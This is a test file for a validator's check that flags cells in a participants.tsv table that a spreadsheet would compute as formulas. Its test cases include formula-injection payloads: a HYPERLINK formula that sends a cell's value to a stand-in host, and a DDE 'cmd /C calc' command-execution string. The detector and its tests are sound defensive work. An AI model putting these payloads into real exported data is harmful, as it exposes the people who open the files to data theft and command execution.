import { expect, it } from 'vitest';
import { parseParticipants } from '../../../../src/preprocess/bids/participants.ts';
import { findFormulas } from '../../../../src/preprocess/check/find-formulas.ts';

const found = (...lines: string[]) =>
  findFormulas(parseParticipants(Buffer.from(`${lines.join('\n')}\n`), 'participants.tsv'));

it.each(['=HYPERLINK("http://x?"&A1,"ok")', '@SUM(A1:A9)', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '-1a', '=1'])(
  'names a cell that a spreadsheet computes: %s',
  (value) => {
    expect(found('participant_id\tsite', 'sub-1\tn/a', `sub-2\t${value}`)).toMatchObject([
      {
        code: 'NF_CHECK_FORMULA',
        severity: 'warning',
        message: expect.stringContaining(
          `1 cell of the table begins as a spreadsheet's formula does, in site; the first is '${value}'`,
        ),
        place: { file: 'participants.tsv', line: 3 },
      },
    ]);
  },
);

it('names a column of such a name, and counts', () => {
  const [one] = found('participant_id\t=A1\tage', 'sub-1\t@x\t3', 'sub-2\ty\t+z');
  expect(one?.message).toMatch(/^3 cells .* in =A1, age; the first is '=A1'/);
  expect(one?.place.line).toBe(1);
});

it('has no more work with a long cell than its length', () => {
  expect(found('participant_id\tscore', `sub-1\t-${'1'.repeat(2_000_000)}x`)).toHaveLength(1);
});

it.each(['-1.5', '+3', '-', '+', '-.5e-3', '1=2', 'a@b', 'n/a', '--'])('leaves alone: %s', (value) => {
  expect(found('participant_id\tscore', `sub-1\t${value}`)).toEqual([]);
});
